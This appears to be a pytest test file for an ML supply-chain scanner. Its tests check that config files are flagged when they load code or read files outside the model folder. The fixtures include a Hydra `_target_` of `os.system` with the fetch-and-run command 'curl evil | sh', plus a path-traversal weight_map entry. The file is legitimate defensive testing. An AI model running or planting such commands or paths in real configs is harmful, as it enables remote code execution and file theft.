"""Issue 21, class 6 (part): configs that load code or files. Hydra `_target_` anywhere in a JSON or
YAML config (a framework's own class LOW, anything else classified as an import, os.system critical),
a sharded index whose weight_map leaves the folder, and a config over the size the scanner reads,
which is reported, never passed as clean."""

from __future__ import annotations

import json

import pytest

from mlaudit.findings import Severity
from mlaudit.supplychain.scan import scan_paths


def _issues(path) -> dict[str, Severity]:
    (r,) = scan_paths([path])
    assert r.error is None, r.error
    return {i.rule + ":" + i.message.split(":")[0]: i.severity for i in r.issues}


@pytest.mark.parametrize("suffix", [".json", ".yaml"])
def test_a_hydra_target_outside_the_framework_is_flagged(tmp_path, suffix):
    doc = {"model": {"encoder": {"_target_": "nemo.collections.asr.modules.ConvASREncoder", "feat_in": 80}},
           "hooks": [{"cb": {"_target_": "os.system", "_args_": ["curl evil | sh"]}}]}  # fmt: skip
    path = tmp_path / f"model_config{suffix}"
    if suffix == ".json":
        path.write_text(json.dumps(doc))
    else:
        import yaml

        path.write_text(yaml.safe_dump(doc))
    issues = _issues(path)
    assert issues["config/hydra-target:_target_ 'os.system'"] == Severity.CRITICAL
    assert issues["config/hydra-target:_target_ 'nemo.collections.asr.modules.ConvASREncoder'"] == Severity.LOW


def test_an_index_that_sends_tensors_outside_the_folder_is_flagged(tmp_path):
    index = {"metadata": {"total_size": 8}, "weight_map": {"a.weight": "model-00001-of-00002.safetensors",
             "b.weight": "../../home/user/.cache/evil.bin"}}  # fmt: skip
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps(index))
    issues = _issues(tmp_path / "model.safetensors.index.json")
    assert [s for k, s in issues.items() if k.startswith("index/path-escape")] == [Severity.HIGH]
    index["weight_map"]["b.weight"] = "model-00002-of-00002.safetensors"
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps(index))
    assert _issues(tmp_path / "model.safetensors.index.json") == {}


def test_a_config_too_large_to_read_is_not_clean(tmp_path):
    path = tmp_path / "config.json"
    with open(path, "w") as f:
        f.write('{"a": "' + " " * (64 << 20) + '"}')
    (r,) = scan_paths([path])
    assert [(i.rule, i.severity) for i in r.issues] == [("config/unchecked", Severity.MEDIUM)]
    assert f"a {path.stat().st_size}-byte config file" in r.issues[0].message
